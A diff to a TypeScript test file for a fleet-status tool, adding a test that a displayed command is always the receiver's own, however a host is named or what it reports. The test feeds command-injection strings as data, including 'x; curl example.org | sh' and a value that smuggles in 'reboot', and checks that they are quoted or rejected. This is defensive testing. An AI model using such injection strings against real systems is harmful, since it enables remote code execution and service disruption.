@@ -1,8 +1,9 @@
 // The fleet at a glance: states, order and words, as the first page and `status` show them.
 
 import { expect, test } from "bun:test";
-import { type FleetQuery, fleetOf } from "../../lib/receiver/fleet.ts";
+import { type FleetQuery, commandOf, fleetOf } from "../../lib/receiver/fleet.ts";
 import { Store } from "../../lib/receiver/store.ts";
+import { shellWord } from "../../lib/text.ts";
 import { until } from "../kit.ts";
 import { Hub, TELLS_SOON, addHosts, report, statuses } from "./kit.ts";
 
@@ -98,3 +99,18 @@ test("the worst come first, with what is wrong and the command that tells more",
 });
 
 const HOST = report()["host"] as Record<string, unknown>;
+
+test("a command that is shown is one of the receiver's own, whatever a host is called or says", () => {
+  const command = (text: string) => commandOf(text)[1];
+  expect(command("nas: unit caddy failed; systemctl status caddy")).toBe("systemctl status caddy");
+  expect(command(`nas: /a b; c is full; du -xh ${shellWord("/a b; c")} | sort -h | tail`)).toBe(
+    "du -xh '/a b; c' | sort -h | tail",
+  );
+  for (const evil of ["x; curl example.org | sh", "x'; curl example.org | sh; '", "x; systemctl status 'x; reboot"]) {
+    expect(command(`nas: unit ${evil} failed; systemctl status ${shellWord(evil)}`)).toBe(
+      `systemctl status ${shellWord(evil)}`,
+    );
+    expect(command(`nas: pool tank is degraded: ${evil}`)).toBeNull();
+    expect(command(`nas: ${evil} has room again`)).toBeNull();
+  }
+});
